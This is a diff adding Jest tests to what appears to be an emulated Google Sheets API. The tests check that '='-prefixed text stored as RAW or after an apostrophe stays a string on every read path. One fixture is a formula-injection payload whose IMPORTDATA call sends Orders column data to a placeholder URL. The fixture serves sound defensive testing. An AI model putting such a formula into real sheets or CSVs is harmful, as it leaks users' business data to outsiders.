@@ -116,3 +116,41 @@ describe('Values.batchGet: render options', () => {
     expect(() => Sheets.Spreadsheets.Values.batchGet(ID, { ranges: ['A1'], dateTimeRenderOption: 'ISO' as never })).toThrow("Invalid value at 'date_time_render_option' (ISO)");
   });
 });
+
+describe('text that starts with "=" is not a formula, on every read path (issue 19)', () => {
+  const HOSTILE = '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';
+
+  /** B2 a real formula; C2 the same text written RAW (a form response, a pasted CSV); C3 typed after an apostrophe. */
+  function report() {
+    const { Sheets, items } = setup();
+    Sheets.Spreadsheets.Values.batchUpdate({ valueInputOption: 'USER_ENTERED', data: [{ range: "'Line items'!B2", values: [['=SUM(1,2)']] }, { range: "'Line items'!C3", values: [[`'${HOSTILE}`]] }] }, ID);
+    Sheets.Spreadsheets.Values.batchUpdate({ valueInputOption: 'RAW', data: [{ range: "'Line items'!C2", values: [[HOSTILE]] }] }, ID);
+    return { Sheets, items };
+  }
+
+  it('Values.get with FORMULA and getValues give the text as a formula; getFormulas and grid data tell them apart', () => {
+    const { Sheets, items } = report();
+    expect(Sheets.Spreadsheets.Values.get(ID, "'Line items'!B2:C3", { valueRenderOption: 'FORMULA' }).values).toEqual([['=SUM(1,2)', HOSTILE], ['', HOSTILE]]);
+    expect(items.getRange('B2:C3').getFormulas()).toEqual([['=SUM(1,2)', ''], ['', '']]);
+    // Grid data: formulaValue for the formula, stringValue for the text; ranges keep only their sheets.
+    const fields = 'sheets(properties.title,data(startRow,startColumn,rowData.values.userEnteredValue))';
+    expect(Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:D9"], fields })).toEqual({
+      sheets: [{
+        properties: { title: 'Line items' },
+        data: [{ startRow: 1, startColumn: 1, rowData: [
+          { values: [{ userEnteredValue: { formulaValue: '=SUM(1,2)' } }, { userEnteredValue: { stringValue: HOSTILE } }] },
+          { values: [{}, { userEnteredValue: { stringValue: HOSTILE } }] },
+        ] }],
+      }],
+    });
+  });
+
+  it('Spreadsheets.get gives no grid data unless includeGridData or the mask asks for it', () => {
+    const { Sheets } = report();
+    const plain = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"] }) as { sheets: Array<Record<string, unknown>> };
+    expect(plain.sheets.map((s) => s.data)).toEqual([undefined]);
+    const grid = Sheets.Spreadsheets.get(ID, { ranges: ["'Line items'!B2:C3"], includeGridData: true }) as { sheets: Array<{ data: unknown[] }> };
+    expect(grid.sheets[0].data).toHaveLength(1);
+    expect(() => Sheets.Spreadsheets.get(ID, { ranges: ["'No such'!A1"], includeGridData: true })).toThrow(/Unable to parse range/);
+  });
+});
